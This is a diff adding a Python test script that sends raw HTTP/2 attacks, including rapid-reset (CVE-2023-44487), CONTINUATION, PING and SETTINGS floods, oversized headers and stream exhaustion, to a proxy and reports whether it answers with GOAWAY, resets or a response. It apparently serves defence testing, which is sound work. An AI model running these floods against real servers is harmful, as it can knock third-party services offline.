@@ -1,0 +1,143 @@
+"""Raw HTTP/2 attacks on a proxy, for ringmesh's defence tests (Debian
+python3-h2 builds the frames; some are written byte by byte).
+
+  h2_attack.py ATTACK HOST:PORT
+
+ATTACK is one of rapid-reset, continuation-flood, ping-flood, settings-flood,
+big-headers, too-many-streams, table-size. Prints one line:
+  goaway <error code>     the proxy sent GOAWAY with that code
+  reset <codes>           streams were reset (distinct codes, comma list)
+  response <status>       a response arrived
+  closed                  the connection closed without any of these
+"""
+import socket
+import struct
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.settings
+
+
+def frame(kind, flags, stream, payload):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def connect(addr):
+    host, port = addr.rsplit(":", 1)
+    s = socket.create_connection((host, int(port)), timeout=10)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
+    conn.initiate_connection()
+    s.sendall(conn.data_to_send())
+    return s, conn
+
+
+def headers(stream_id, extra=()):
+    return [(":method", "GET"), (":path", "/hello"), (":scheme", "http"), (":authority", "test")] + list(extra)
+
+
+def outcome(s, conn, wait=5.0):
+    """Reads until GOAWAY, a response, or close; what the proxy did."""
+    resets = set()
+    deadline = time.time() + wait
+    s.settimeout(0.5)
+    while time.time() < deadline:
+        try:
+            data = s.recv(65536)
+        except socket.timeout:
+            if resets:
+                break
+            continue
+        except (ConnectionResetError, BrokenPipeError):
+            break
+        if not data:
+            break
+        try:
+            events = conn.receive_data(data)
+        except Exception:
+            # Frames our h2 state machine did not expect after what we sent;
+            # scan raw for a GOAWAY instead.
+            i = data.find(bytes([0x07, 0x00, 0x00, 0x00, 0x00, 0x00]))
+            if i >= 3:
+                code = struct.unpack(">I", data[i + 10:i + 14])[0]
+                return "goaway %d" % code
+            continue
+        for e in events:
+            if isinstance(e, h2.events.ConnectionTerminated):
+                return "goaway %d" % e.error_code
+            if isinstance(e, h2.events.StreamReset):
+                resets.add(int(e.error_code))
+            if isinstance(e, h2.events.ResponseReceived):
+                status = dict(e.headers).get(b":status", b"?").decode()
+                if not resets:
+                    return "response " + status
+        try:
+            s.sendall(conn.data_to_send())
+        except OSError:
+            break
+    if resets:
+        return "reset " + ",".join(str(c) for c in sorted(resets))
+    return "closed"
+
+
+def main():
+    attack, addr = sys.argv[1], sys.argv[2]
+    s, conn = connect(addr)
+    if attack == "rapid-reset":
+        # CVE-2023-44487: open a stream and reset it at once, thousands of times.
+        try:
+            for i in range(2000):
+                sid = conn.get_next_available_stream_id()
+                conn.send_headers(sid, headers(sid))
+                conn.reset_stream(sid)
+                if i % 100 == 0:
+                    s.sendall(conn.data_to_send())
+            s.sendall(conn.data_to_send())
+        except OSError:
+            pass
+    elif attack == "continuation-flood":
+        # A header block that never ends: HEADERS without END_HEADERS, then
+        # CONTINUATION frames forever (CVE-2024-27316 style).
+        s.sendall(frame(0x1, 0x0, 1, b"\x82\x86\x84"))
+        try:
+            for _ in range(5000):
+                s.sendall(frame(0x9, 0x0, 1, b"\x00\x01a\x01b" * 100))
+        except OSError:
+            pass
+    elif attack == "ping-flood":
+        try:
+            for i in range(5000):
+                s.sendall(frame(0x6, 0x0, 0, struct.pack(">Q", i)))
+        except OSError:
+            pass
+    elif attack == "settings-flood":
+        try:
+            for i in range(5000):
+                s.sendall(frame(0x4, 0x0, 0, struct.pack(">HI", 0x3, 100)))
+        except OSError:
+            pass
+    elif attack == "big-headers":
+        sid = conn.get_next_available_stream_id()
+        conn.send_headers(sid, headers(sid, [("x-big", "a" * 200000)]), end_stream=True)
+        s.sendall(conn.data_to_send())
+    elif attack == "too-many-streams":
+        for _ in range(50):
+            sid = conn.get_next_available_stream_id()
+            conn.send_headers(sid, [(":method", "GET"), (":path", "/hang"), (":scheme", "http"), (":authority", "test")], end_stream=True)
+        s.sendall(conn.data_to_send())
+    elif attack == "table-size":
+        conn.update_settings({h2.settings.SettingCodes.HEADER_TABLE_SIZE: 2**31 - 1})
+        sid = conn.get_next_available_stream_id()
+        conn.send_headers(sid, headers(sid), end_stream=True)
+        s.sendall(conn.data_to_send())
+    else:
+        print("unknown attack " + attack)
+        sys.exit(2)
+    print(outcome(s, conn), flush=True)
+
+
+if __name__ == "__main__":
+    main()
